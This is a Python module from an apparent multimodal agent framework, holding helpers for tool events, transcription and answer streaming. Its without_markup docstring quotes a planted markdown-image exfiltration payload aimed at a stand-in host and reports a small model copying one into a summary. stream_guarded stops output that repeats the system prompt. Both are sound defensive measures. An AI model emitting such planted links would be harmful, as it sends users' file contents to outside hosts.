"""Steps several flows share: running a tool with events, transcribing audio, streaming an answer."""

from __future__ import annotations

import logging
import re
from pathlib import Path
from typing import TYPE_CHECKING, Any, Sequence

from mmagent.errors import MMAgentError
from mmagent.flows.base import TokenEvent, ToolCallEvent, ToolResultEvent, emit
from mmagent.flows.prompting import FENCE_MARKERS
from mmagent.orchestration.tool_parsing import new_call_id
from mmagent.tools.base import Tool, ToolContext, ToolResult

if TYPE_CHECKING:
    from mmagent.config import Config

log = logging.getLogger(__name__)


class ToolBox:
    """The tools a flow may use, built on first use from the `mmagent.tools` registry (one per flow)."""

    def __init__(self, config: "Config") -> None:
        self.config = config
        self._tools: dict[str, Tool] = {}

    def get(self, name: str) -> Tool:
        if name not in self._tools:
            from mmagent.tools.registry import load_tools

            self._tools.update(load_tools(self.config, [name]))
        return self._tools[name]


def run_tool(tool: Tool, args: dict[str, Any], call_id: str | None = None, *, raise_errors: bool = True,
             context: ToolContext | None = None) -> ToolResult | None:
    """Call `tool` with `args` (and this request's `context`), emitting tool_call and tool_result events.

    A user-facing failure (MMAgentError) is reported as a failed tool_result; it is re-raised when
    `raise_errors`, else the caller gets None and decides (e.g. count it towards a hand-off)."""
    call_id = call_id or new_call_id()
    emit(ToolCallEvent(tool.name, dict(args), call_id))
    try:
        result = tool(context, **args)
    except MMAgentError as exc:
        emit(ToolResultEvent(tool.name, call_id, ok=False, error=str(exc)))
        if raise_errors:
            raise
        return None
    emit(ToolResultEvent(tool.name, call_id, ok=True, text=result.text))
    return result


def transcribe(tools: ToolBox, audio: Sequence[str]) -> list[ToolResult]:
    """Transcribe each audio file with the `asr` tool (events included)."""
    results = []
    for path in audio:
        result = run_tool(tools.get("asr"), {"path": str(path)})
        if result is not None:
            results.append(result)
    return results


def stream_answer(backend: Any, messages: list[dict[str, Any]], images: Sequence[Any] = (), **gen: Any) -> str:
    """Generate with `backend`, emitting each piece as a token event; returns the whole text.

    The data-fence markers are banned from the output: small models echo the fence they were shown, and
    the user must never see the prompt's plumbing.
    """
    gen.setdefault("banned", FENCE_MARKERS)
    pieces = []
    for piece in backend.generate(messages, images=list(images), **gen):
        pieces.append(piece)
        emit(TokenEvent(piece))
    return "".join(pieces)


def whole_sentences(text: str) -> str:
    """`text` without a last sentence the token limit cut off ("... reduced from 6"): a cut number or name
    reads as a wrong fact. Text with no complete sentence at all is returned as it is."""
    text = text.strip()
    if not text or text[-1] in ".!?:;)\"'’”" or text.endswith("\n"):
        return text
    ends = [m.end() for m in re.finditer(r"[.!?][\"'’”)]?(?=\s)", text)]
    return text[:ends[-1]].strip() if ends else text


_MARKDOWN_IMAGE = re.compile(r"!\[[^\]\n]*\]\([^)\n]*\)")
_MARKDOWN_LINK = re.compile(r"\[([^\]\n]*)\]\([^)\n]*\)")


def without_markup(text: str) -> str:
    """`text` with markdown images removed and links reduced to their words. What a summary restates comes
    from the user's files, and a planted ``![x](http://host/?d=...)`` copied into it would make any markdown
    viewer fetch that address (measured: Qwen 0.5B copied one into a summary). A summary is plain prose."""
    text = _MARKDOWN_IMAGE.sub("", text)
    return re.sub(r"[ \t]{2,}", " ", _MARKDOWN_LINK.sub(r"\1", text)).strip()


def say(text: str) -> str:
    """Emit a fixed (not generated) answer as one token event; returns it."""
    emit(TokenEvent(text))
    return text


def check_files(paths: Sequence[str | Path], what: str) -> list[str]:
    """Absolute paths of existing files, or a FlowError naming the missing one."""
    from mmagent.flows.base import FlowError

    out = []
    for path in paths:
        p = Path(path).expanduser()
        if not p.is_file():
            raise FlowError(f"{what} file '{path}' does not exist or is not a file; check the path.")
        out.append(str(p.resolve()))
    return out


def stream_guarded(backend: Any, messages: list[dict[str, Any]], secret: str, images: Sequence[Any] = (),
                   hold_words: int = 8, **gen: Any) -> tuple[str, bool]:
    """Like :func:`stream_answer`, but stops before the answer repeats `hold_words` consecutive words of
    `secret` (the system prompt): the last words are held back until the next piece shows they are safe.

    Returns (text emitted, leaked) — on a leak the generation is cancelled and the caller replaces it."""
    from mmagent.flows.prompting import leaks

    text, shown = "", 0
    for piece in backend.generate(messages, images=list(images), **gen):
        text += piece
        if leaks(text, secret, hold_words):
            return text[:shown], True
        cut = _safe_prefix(text, hold_words)
        if cut > shown:
            emit(TokenEvent(text[shown:cut]))
            shown = cut
    if shown < len(text):
        emit(TokenEvent(text[shown:]))
    return text, False


def _safe_prefix(text: str, hold_words: int) -> int:
    """Index before the last `hold_words` words of `text` (0 when there are fewer)."""
    import re

    starts = [m.start() for m in re.finditer(r"\S+", text)]
    return starts[-hold_words] if len(starts) >= hold_words else 0
